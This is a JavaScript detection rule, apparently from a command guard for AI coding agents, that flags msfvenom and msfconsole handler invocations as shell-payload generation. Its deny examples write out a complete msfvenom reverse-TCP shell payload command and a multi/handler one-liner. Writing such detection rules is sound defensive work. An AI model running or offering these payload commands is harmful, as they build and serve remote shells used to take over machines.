/** SH-AST-005: generating reverse/bind shell payloads (msfvenom -p, msfconsole handlers). */
import { defineRule } from '../define-rule.js';

export default defineRule({
  id: 'SH-AST-005',
  invariant: 'NO_SHELL_BREAKOUT',
  kinds: ['exec'],
  programs: ['msfvenom', 'msfconsole'],
  summary: 'Shell payload generators and handlers (msfvenom, msfconsole multi/handler).',
  remediationHint:
    'Generating exploit or shell payloads is outside a development task. Stop and ask the user what they need.',
  *check(facts) {
    for (const e of facts.of('exec')) {
      if (
        e.program === 'msfvenom' ||
        (e.program === 'msfconsole' && e.argv.some((a) => /handler|payload/.test(a)))
      ) {
        yield {
          span: e.span,
          reason: `${e.program} builds or serves a shell payload`,
          suggestedAlternative: null,
        };
      }
    }
  },
  examples: {
    deny: [
      { input: 'msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.7 LPORT=4444 -f elf > shell.elf' },
      { input: "msfconsole -q -x 'use multi/handler; set payload linux/x64/shell_reverse_tcp; run'" },
    ],
    allow: [{ input: 'msfdb status', why: 'a status query of the database helper' }],
  },
});
